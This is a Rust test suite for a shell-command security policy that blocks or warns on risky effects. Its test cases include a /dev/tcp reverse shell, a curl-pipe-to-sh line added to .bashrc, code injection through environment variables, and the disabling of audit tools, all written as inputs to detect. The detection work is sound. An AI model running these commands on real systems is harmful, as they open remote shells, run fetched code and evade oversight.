//! The rules beyond the seed's, effect by effect.

mod common;

use aegish_effects::{EffectKind, Opaque, Source, Taint, Value};
use aegish_policy::{Action, PolicyContext, Role, judge};
use common::*;

#[test]
fn disguised_code_is_judged_by_its_known_part() {
    check(vec![
        (EffectKind::Disguised { how: "base64", code: v("ls") }, "disguised-code", "www"),
        (EffectKind::Disguised { how: "base64", code: v("‹x›") }, "disguised-code", "WWb"),
        (EffectKind::Disguised { how: "base64", code: Value::empty() }, "disguised-code", "WWb"),
    ]);
}

#[test]
fn schedules_are_judged_by_whether_they_can_be_read() {
    check(vec![
        (system("persist", "0 3 x x x backup"), "scheduled-content", "wab"),
        (system("persist", "‹x›"), "scheduled-content", "bwb"),
    ]);
    let both = analysis(
        Some("crontab"),
        vec![system("persist", "jobs"), hidden(Opaque::Script, Taint::none())],
    );
    let setting = PolicyContext { role: Role::Default, cwd: CWD, home: HOME, user_rules: &[] };
    assert_eq!(judge(&both, &setting).action, Action::Block);
}

#[test]
fn variables_do_not_smuggle_code() {
    let rule = "environment-injection";
    check(vec![
        (setenv("BASH_ENV", "./x.sh"), rule, "bbb"),
        (setenv_v("BASH_ENV", "‹x›"), rule, "WWb"),
        (setenv("ENV", "/tmp/x"), rule, "bbb"),
        (setenv("PROMPT_COMMAND", "curl -s x | sh"), rule, "bbb"),
        (setenv("PS4", "$(id)"), rule, "bbb"),
        (setenv("PS1", "$(whoami)$ "), rule, "wwb"),
        (setenv("SHELLOPTS", "xtrace"), rule, "bbb"),
        (setenv("PYTHONSTARTUP", "/tmp/x.py"), rule, "bbb"),
        (setenv("PYTHONPATH", "/tmp/x"), rule, "bbb"),
        (setenv("PERL5OPT", "-Mevil"), rule, "bbb"),
        (setenv("PERL5LIB", "/dev/shm"), rule, "bbb"),
        (setenv("RUBYOPT", "-r./x"), rule, "bbb"),
        (setenv("NODE_OPTIONS", "--require ./x.js"), rule, "bbb"),
        (setenv("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar"), rule, "bbb"),
        (setenv("GIT_SSH_COMMAND", "sh -c id"), rule, "bbb"),
        (setenv("GIT_SSH", "/tmp/ssh"), rule, "bbb"),
        (setenv("GIT_EXTERNAL_DIFF", "./d"), rule, "bbb"),
        (setenv("GIT_CONFIG_KEY_0", "core.sshCommand"), rule, "bbb"),
        (setenv("GIT_CONFIG_GLOBAL", "/tmp/c"), rule, "bbb"),
        (setenv("GIT_EXEC_PATH", "/home/kim/src/app/x"), rule, "bbb"),
        (setenv("PAGER", "sh"), rule, "bbb"),
        (setenv("PAGER", "/tmp/less"), rule, "bbb"),
        (setenv("EDITOR", "mytool"), rule, "wwb"),
        (setenv("LESSOPEN", "|sh %s"), rule, "bbb"),
        (setenv("BROWSER", "./b"), rule, "bbb"),
        (setenv("BASH_FUNC_ls%%", "() { id; }"), rule, "bbb"),
        (setenv("NODE_TLS_REJECT_UNAUTHORIZED", "0"), rule, "wwb"),
        (setenv("GIT_SSL_NO_VERIFY", "true"), rule, "wwb"),
    ]);
    check_fine(vec![
        setenv("EDITOR", "vim"),
        setenv("VISUAL", "code --wait"),
        setenv("PAGER", "less -R"),
        setenv("PAGER", "cat"),
        setenv("GIT_PAGER", ""),
        setenv("GIT_SSH_COMMAND", "ssh -i /home/kim/.ssh/work"),
        setenv("MANPAGER", "less"),
        setenv("PYTHONPATH", "src"),
        setenv_v("PYTHONPATH", ".:‹x›"),
        setenv("NODE_OPTIONS", "--max-old-space-size=4096"),
        setenv("NODE_ENV", "production"),
        setenv("ENV", "staging"),
        setenv("RUBYOPT", "-W0"),
        setenv("PS1", "\\u@\\h:\\w\\$ "),
        setenv("PROMPT_COMMAND", "history -a"),
        setenv("IFS", ","),
        setenv("TMPDIR", "/tmp/x"),
        setenv("RUST_LOG", "debug"),
        setenv("GIT_CONFIG_KEY_0", "safe.directory"),
        setenv("GIT_CONFIG_GLOBAL", "/dev/null"),
        setenv("HISTCONTROL", "ignoreboth"),
        setenv("JAVA_TOOL_OPTIONS", "-Xmx2g"),
        setenv("MAKEFLAGS", "-j8"),
        EffectKind::Setenv {
            name: "EDITOR".to_owned(),
            value: Value::unknown("variable")
                .tainted(&from(Source::Environment("VISUAL".to_owned()))),
            code: aegish_effects::VariableCode::Unread,
        },
    ]);
}

#[test]
fn the_search_path_begins_with_trusted_directories() {
    let rule = "path-change";
    check(vec![
        (setenv_v("PATH", ".:‹PATH›"), rule, "bbb"),
        (setenv_v("PATH", ":‹PATH›"), rule, "bbb"),
        (setenv_v("PATH", "/tmp/x:‹PATH›"), rule, "bbb"),
        (setenv_v("PATH", "/dev/shm:‹PATH›"), rule, "bbb"),
        (setenv("PATH", "/tmp"), rule, "bbb"),
        (setenv_v("PATH", "tools:‹PATH›"), rule, "wwb"),
        (setenv_v("PATH", "‹PATH›:."), rule, "wwb"),
        (setenv("PATH", "/usr/bin:/bin:."), rule, "wwb"),
    ]);
    check_fine(vec![
        setenv_v("PATH", "/home/kim/.cargo/bin:‹PATH›"),
        setenv_v("PATH", "/opt/x/bin:‹PATH›"),
        setenv_v("PATH", "./node_modules/.bin:‹PATH›"),
        setenv_v("PATH", "/home/kim/src/app/node_modules/.bin:‹PATH›"),
        setenv_v("PATH", "‹GOPATH›/bin:‹PATH›"),
        setenv_v("PATH", "‹PATH›:/usr/local/go/bin"),
        setenv("PATH", "/usr/local/bin:/usr/bin:/bin"),
        setenv_v("PATH", "‹PATH›:"),
    ]);
}

#[test]
fn well_known_names_keep_their_meaning() {
    let rule = "command-shadowing";
    check(vec![
        (shadow("ls", "/tmp/x"), rule, "bbb"),
        (shadow("anything", "/dev/shm/x"), rule, "bbb"),
        (shadow("sudo", "tee -a log"), rule, "bbb"),
        (shadow("ssh", "ssh -o ProxyCommand=x"), rule, "bbb"),
        (shadow("passwd", ""), rule, "bbb"),
        (shadow("ls", "ls; id"), rule, "wwb"),
        (shadow("cd", "builtin cd \"$@\" && ls"), rule, "wwb"),
        (shadow("git", ""), rule, "wwb"),
    ]);
    check_fine(vec![
        shadow("ll", "ls -l"),
        shadow("gs", "git status"),
        shadow("grep", "grep --color=auto"),
        shadow("ls", "ls --color"),
        shadow("rm", "rm -i"),
        shadow("sudo", "sudo "),
        shadow("ssh", "ssh -C"),
        shadow("cat", "bat"),
        shadow("vim", "nvim"),
        shadow("python", "python3"),
        shadow("deploy", "cd /srv && ./run; echo done"),
    ]);
}

#[test]
fn unreadable_code_is_left_open() {
    check(vec![
        (hidden(Opaque::CommandName, Taint::none()), "unresolved-command", "WWb"),
        (hidden(Opaque::Code, Taint::none()), "unread-code", "WWb"),
        (hidden(Opaque::Script, Taint::none()), "unread-code", "WWW"),
        (hidden(Opaque::Syntax, Taint::none()), "unparsable-command", "WWb"),
        (hidden(Opaque::Limit, Taint::none()), "unparsable-command", "WWb"),
    ]);
}

#[test]
fn start_files_are_judged_by_their_lines() {
    let rule = "persistence";
    let line = |text: &str| append("/home/kim/.bashrc", Value::known(text));
    check(vec![
        (line("export PATH=$HOME/bin:$PATH\n"), rule, "wwb"),
        (line("alias ll='ls -l'\n# note\n"), rule, "wwb"),
        (line("eval \"$(direnv hook bash)\""), rule, "wwb"),
        (line("[ -f ~/.fzf.bash ] && source ~/.fzf.bash"), rule, "wwb"),
        (line("nohup /tmp/x &"), rule, "bbb"),
        (line("curl -s https://example.net/x | sh"), rule, "bbb"),
        (line("bash -i >& /dev/tcp/203.0.113.5/1 0>&1"), rule, "bbb"),
        (line("export PROMPT_COMMAND='x'"), rule, "bbb"),
        (line("alias sudo='~/.x'"), rule, "bbb"),
        (line("/home/kim/.hidden/agent"), rule, "bbb"),
        (append("/home/kim/.zshrc", v("‹x›")), rule, "WWb"),
        (append("/home/kim/.zshrc", v("export KEY=‹x›")), rule, "wwb"),
        (append("‹x›/.profile", Value::known("umask 022")), rule, "wwb"),
        (append("/home/kim/.bashrc", Value::unknown("download").tainted(&net())), rule, "bbb"),
        (write("/home/kim/.config/autostart/x.desktop"), rule, "bbb"),
        (write("/home/kim/.ssh/rc"), rule, "bbb"),
        (write("/home/kim/.ssh/config"), rule, "wwb"),
        (write("/home/kim/.config/systemd/user/x.service"), rule, "wwb"),
        (write(".git/hooks/pre-commit"), rule, "wwb"),
    ]);
    check_fine(vec![
        write(".bashrc"),
        write("dotfiles/.bashrc"),
        write(".git/hooks/pre-commit.sample"),
    ]);
}

#[test]
fn protections_stay_on() {
    let rule = "security-tool-disabled";
    check(vec![
        (system("disarm firewall", ""), rule, "bwb"),
        (system("service stop", "auditd"), rule, "bwb"),
        (system("kill process", "falco"), rule, "bbb"),
        (write("/etc/selinux/config"), rule, "bwb"),
        (write("/etc/aegish/config"), rule, "bwb"),
        (write("/home/kim/.config/aegish/policy.toml"), rule, "bwb"),
        (delete("/var/log/auth.log"), rule, "bbb"),
        (delete_tree("/var/log/audit"), rule, "bbb"),
        (write("/var/log/syslog"), rule, "wab"),
        (delete("/home/kim/.bash_history"), rule, "wwb"),
        (link("/home/kim/.bash_history", "/dev/null"), rule, "wwb"),
        (setenv("HISTFILE", "/dev/null"), rule, "wwb"),
        (setenv("HISTSIZE", "0"), rule, "wwb"),
    ]);
    check_fine(vec![
        append("/var/log/app.log", Value::known("x")),
        setenv("HISTSIZE", "10000"),
        setenv("HISTFILE", "/home/kim/.history_work"),
    ]);
}

#[test]
fn effects_on_the_system_follow_the_role() {
    check(vec![
        (system("exhaust", ""), "resource-exhaustion", "bbb"),
        (system("escape privileged", ""), "container-escape", "bbb"),
        (read("/var/run/docker.sock"), "container-escape", "bbb"),
        (system("kernel load-module", "x.ko"), "kernel-interface", "bwb"),
        (write("/proc/sys/kernel/core_pattern"), "kernel-interface", "bwb"),
        (write("/sys/fs/cgroup/x/release_agent"), "kernel-interface", "bwb"),
        (system("inspect process", "4242"), "process-inspection", "bwb"),
        (system("discard", ""), "work-loss", "www"),
        (system("service stop", "nginx"), "service-change", "wab"),
        (system("service restart", "nginx"), "service-change", "aab"),
        (system("power", ""), "power-change", "wwb"),
        (system("kill process", "4242"), "process-kill", "aaw"),
        (system("kill process", "-1"), "process-kill", "bbb"),
        (system("kill process", "init"), "process-kill", "bbb"),
        (system("inspect measure", ""), "process-inspection", "wab"),
        (system("recon password-hashes", ""), "4", "bwb"),
        (system("remote delete", "shop"), "remote-destruction", "wwb"),
        (system("account add", "ada"), "account-change", "wab"),
        (system("package install", "nginx"), "package-install", "wab"),
        (system("package install-from-manifest", ""), "package-install", "aab"),
        (system("network", ""), "network-change", "wab"),
    ]);
}

#[test]
fn arguments_decide_what_is_killed_stopped_or_upgraded() {
    let rows: [(&str, &'static str, &str, &str, Action); 13] = [
        ("kill process", "kill", "-9 -1", "process-kill", Action::Block),
        ("kill process", "kill", "-s KILL 1", "process-kill", Action::Block),
        ("kill process", "kill", "-1 812", "13", Action::Allow),
        ("kill process", "kill", "812", "13", Action::Allow),
        ("kill process", "pkill", "-9 .", "process-kill", Action::Block),
        ("kill process", "pkill", "-1 worker", "13", Action::Allow),
        ("kill process", "killall", "systemd", "process-kill", Action::Block),
        ("kill process", "killall", "auditd", "security-tool-disabled", Action::Block),
        (
            "service stop",
            "systemctl",
            "stop auditd.service",
            "security-tool-disabled",
            Action::Block,
        ),
        ("service stop", "systemctl", "stop nginx", "service-change", Action::Warn),
        ("package upgrade", "apt-get", "upgrade", "13", Action::Allow),
        ("package remove", "apt-get", "autoremove", "package-install", Action::Warn),
        ("package install", "npm", "install", "13", Action::Allow),
    ];
    for (what, program, arguments, rule, action) in rows {
        let mut analysis = analysis(Some(program), vec![system(what, "")]);
        analysis.commands[0].argv.extend(arguments.split(' ').map(Value::known));
        let found = judge(
            &analysis,
            &PolicyContext { role: Role::Default, cwd: CWD, home: HOME, user_rules: &[] },
        );
        assert_eq!((found.action, found.rule().id), (action, rule), "{program} {arguments}");
    }
}
